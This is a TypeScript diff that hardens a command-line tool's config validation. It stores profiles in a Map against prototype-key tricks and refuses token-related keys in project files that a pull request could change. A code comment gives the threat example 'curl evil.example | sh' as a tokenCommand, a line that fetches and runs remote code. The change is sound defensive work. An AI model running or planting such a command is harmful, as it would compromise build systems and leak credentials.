@@ -57,26 +57,63 @@ const fields = {
 const SETTINGS_MAP = 'must be a map of settings (key: value)';
 
 export const ProfileSchema = z.strictObject(fields, { error: SETTINGS_MAP });
+type ProfileValues = z.output<typeof ProfileSchema>;
 
-/** Every key a config file may hold; `token` is refused afterwards in project files. */
+/**
+ * Profiles by name, in a Map: a name is whatever the file says (`__proto__`, `constructor`), and an object
+ * keyed by it would reach its prototype instead (zod's record drops a `__proto__` key on the way).
+ */
+const Profiles = z
+  .custom<Record<string, unknown>>((value) => typeof value === 'object' && value !== null && !Array.isArray(value), {
+    error: PROBLEMS.profiles,
+  })
+  .transform((raw, ctx) => {
+    const profiles = new Map<string, ProfileValues>();
+    for (const [name, value] of Object.entries(raw)) {
+      const parsed = ProfileSchema.safeParse(value);
+      if (parsed.success) {
+        profiles.set(name, parsed.data);
+        continue;
+      }
+      for (const issue of parsed.error.issues) {
+        ctx.issues.push({ ...issue, input: value, path: [name, ...issue.path] } as z.core.$ZodRawIssue);
+      }
+    }
+    return profiles;
+  });
+
+/** Every key a config file may hold; the keys of USER_ONLY_KEYS are refused afterwards in project files. */
 export const ConfigFileSchema = z.strictObject(
   {
     ...fields,
     token: text(PROBLEMS.token).optional(),
-    profiles: z.record(z.string(), ProfileSchema, { error: PROBLEMS.profiles }).optional(),
+    trustedApiUrls: z
+      .array(z.string({ error: PROBLEMS.trustedApiUrls }).transform(via(checkApiUrl)), { error: PROBLEMS.trustedApiUrls })
+      .optional(),
+    profiles: Profiles.optional(),
   },
   { error: SETTINGS_MAP },
 );
 
-type ProfileValues = z.output<typeof ProfileSchema>;
 type FileValues = ProfileValues & { token?: string };
 
 export interface ConfigFile {
   path: string;
   kind: ConfigFileKind;
+  /** How keys are reached in the file: 'mq.' in package.json, else ''. */
+  keyPrefix: string;
   values: FileValues;
-  profiles: Record<string, ProfileValues>;
+  profiles: Map<string, ProfileValues>;
+  /** API URLs a project file may send the token to (user file only). */
+  trustedApiUrls: string[];
 }
+
+/**
+ * The keys that decide how the token is obtained, and which URLs a project file may send it to. A project file
+ * is whatever the branch being built says (a pull request can change it), so only the user file may hold them:
+ * otherwise `tokenCommand: "curl evil.example | sh"` on a branch would run in CI.
+ */
+export const USER_ONLY_KEYS = ['token', 'tokenCommand', 'tokenFile', 'trustedApiUrls'] as const;
 
 const TOKEN_HELP = 'use tokenCommand or tokenFile, or set MQ_TOKEN';
 
@@ -86,23 +123,50 @@ const TOKEN_HELP = 'use tokenCommand or tokenFile, or set MQ_TOKEN';
  */
 export function validateConfigFile(path: string, kind: ConfigFileKind, content: unknown, keyPrefix = ''): ConfigFile {
   const problems = (lines: string[]) => new ConfigError(lines.map((line) => `${path}: ${line}`).join('\n'));
+  // Before the schema: whatever else is wrong with it, a project file that names these is refused for them.
+  if (kind === 'project') {
+    const refused = userOnlyKeys(content).map((key) => userOnlyProblem(`${keyPrefix}${key}`, key));
+    if (refused.length > 0) throw problems(refused);
+  }
   const parsed = ConfigFileSchema.safeParse(content);
   if (!parsed.success) throw problems(parsed.error.issues.flatMap((issue) => describeIssue(issue, keyPrefix)));
-  const { profiles = {}, ...values } = parsed.data;
-  if (kind === 'project' && values.token !== undefined) {
-    throw problems([
-      `"${keyPrefix}token" is not allowed in a project config file, which is usually committed: ${TOKEN_HELP}`,
-    ]);
-  }
+  const { profiles = new Map<string, ProfileValues>(), trustedApiUrls = [], ...values } = parsed.data;
   const levels: [string, FileValues][] = [['', values]];
-  for (const [name, profile] of Object.entries(profiles)) levels.push([`profiles.${name}.`, profile]);
+  for (const [name, profile] of profiles) levels.push([`profiles.${name}.`, profile]);
   for (const [where, level] of levels) {
     const tokenKeys = (['token', 'tokenCommand', 'tokenFile'] as const).filter((key) => level[key] !== undefined);
     if (tokenKeys.length > 1) {
       throw problems([`set only one of ${tokenKeys.map((key) => `"${keyPrefix}${where}${key}"`).join(', ')}`]);
     }
   }
-  return { path, kind, values, profiles };
+  return { path, kind, keyPrefix, values, profiles, trustedApiUrls };
+}
+
+/** The user-only keys `content` holds, at its top level and in its profiles, as paths: `profiles.ci.tokenFile`. */
+function userOnlyKeys(content: unknown): string[] {
+  const found: string[] = [];
+  const look = (level: unknown, where: string) => {
+    if (typeof level !== 'object' || level === null || Array.isArray(level)) return;
+    for (const key of USER_ONLY_KEYS) if (Object.hasOwn(level, key)) found.push(`${where}${key}`);
+  };
+  look(content, '');
+  if (typeof content === 'object' && content !== null && Object.hasOwn(content, 'profiles')) {
+    const profiles: unknown = (content as { profiles: unknown }).profiles;
+    if (typeof profiles === 'object' && profiles !== null) {
+      for (const [name, profile] of Object.entries(profiles)) look(profile, `profiles.${name}.`);
+    }
+  }
+  return found;
+}
+
+function userOnlyProblem(shown: string, key: string): string {
+  const why = key.endsWith('trustedApiUrls')
+    ? 'a project file cannot vouch for its own apiUrl'
+    : 'move it there, or set MQ_TOKEN';
+  return (
+    `"${shown}" is not allowed in a project config file, which a pull request can change: only the user config ` +
+    `($XDG_CONFIG_HOME/mq/config.yaml, default ~/.config/mq/config.yaml) may set it; ${why}`
+  );
 }
 
 function describeIssue(issue: z.core.$ZodIssue, keyPrefix: string): string[] {
@@ -121,7 +185,7 @@ function describeIssue(issue: z.core.$ZodIssue, keyPrefix: string): string[] {
 
 /** The names of the profiles a file defines. */
 export function profileNames(file: ConfigFile): string[] {
-  return Object.keys(file.profiles);
+  return [...file.profiles.keys()];
 }
 
 /**
@@ -130,9 +194,12 @@ export function profileNames(file: ConfigFile): string[] {
  */
 export function fileLayer(file: ConfigFile, profile: string | undefined, homeDir: string): Layer {
   const layer: Layer = {};
-  const apply = (values: FileValues, origin: string) => {
+  const apply = (values: FileValues, origin: string, where: string) => {
     const token = tokenSource(values, origin, file.path, homeDir);
-    if (values.apiUrl !== undefined) layer.apiUrl = { value: values.apiUrl, origin };
+    if (values.apiUrl !== undefined) {
+      const key = `${file.keyPrefix}${where}apiUrl`;
+      layer.apiUrl = { value: values.apiUrl, origin, file: { path: file.path, kind: file.kind, key } };
+    }
     if (values.repo !== undefined) layer.repo = { value: values.repo, origin };
     if (values.targetBranch !== undefined) layer.targetBranch = { value: values.targetBranch, origin };
     if (values.org !== undefined) layer.org = { value: values.org, origin };
@@ -140,9 +207,9 @@ export function fileLayer(file: ConfigFile, profile: string | undefined, homeDir
     if (values.timeout !== undefined) layer.timeoutMs = { value: values.timeout, origin };
     if (token !== undefined) layer.token = { value: token, origin };
   };
-  apply(file.values, `file ${file.path}`);
-  const overlay = profile === undefined ? undefined : file.profiles[profile];
-  if (overlay) apply(overlay, `file ${file.path} (profile ${profile})`);
+  apply(file.values, `file ${file.path}`, '');
+  const overlay = profile === undefined ? undefined : file.profiles.get(profile);
+  if (overlay) apply(overlay, `file ${file.path} (profile ${profile})`, `profiles.${profile}.`);
   return layer;
 }
 
